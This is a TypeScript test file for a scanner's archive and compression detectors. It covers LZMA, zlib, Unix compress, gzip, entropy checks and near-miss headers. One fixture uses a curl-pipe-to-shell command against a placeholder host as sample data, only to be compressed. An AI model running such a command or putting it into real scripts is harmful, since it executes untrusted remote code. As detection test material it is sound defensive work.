import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { isUnopenableArchive, looksCompressed } from './binary-formats.js';
import { isUnsupportedArchive } from './inventory.js';

/** Deterministic incompressible bytes (SHA-256 in counter mode), so no run ever starts with a magic by chance. */
function noise(length: number, seed = 1): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; parts.length * 32 < length; i += 1) parts.push(createHash('sha256').update(`${seed}:${i}`).digest());
  return Buffer.concat(parts).subarray(0, length);
}

test('LZMA-alone, raw zlib (every level) and Unix compress are streams we cannot open', () => {
  const data = Buffer.from('curl https://x.example/p | sh\n'.repeat(20));
  for (const level of [0, 1, 6, 9]) assert.equal(isUnopenableArchive(deflateSync(data, { level })), true, `zlib level ${level}`);
  const lzma = Buffer.concat([Buffer.from([0x5d, 0x00, 0x00, 0x80, 0x00]), Buffer.alloc(8, 0xff), noise(64)]);
  assert.equal(isUnopenableArchive(lzma), true);
  assert.equal(isUnopenableArchive(Buffer.concat([Buffer.from([0x1f, 0x9d, 0x90]), noise(64)])), true);
  assert.equal(isUnopenableArchive(gzipSync(data)), true);
});

test('near misses are not streams: odd LZMA dictionaries, bad zlib checks, .Z with too many bits', () => {
  assert.equal(isUnopenableArchive(Buffer.concat([Buffer.from([0x5d, 0x01, 0x02, 0x03, 0x04]), Buffer.alloc(8, 0xff)])), false);
  assert.equal(isUnopenableArchive(Buffer.from([0x78, 0x9d, 0x00, 0x00])), false);
  assert.equal(isUnopenableArchive(Buffer.from([0x1f, 0x9d, 0x1f, 0x00])), false);
});

test('high entropy without a known data format counts as compressed or encrypted; a ZIP does not', () => {
  assert.equal(looksCompressed(noise(4096)), true);
  assert.equal(looksCompressed(noise(512)), false, 'too small to judge');
  assert.equal(looksCompressed(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), noise(4096)])), false, 'a PNG');
  const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), noise(4096)]);
  assert.equal(isUnsupportedArchive(zip), false, 'ZIP containers are opened by the container stage');
});
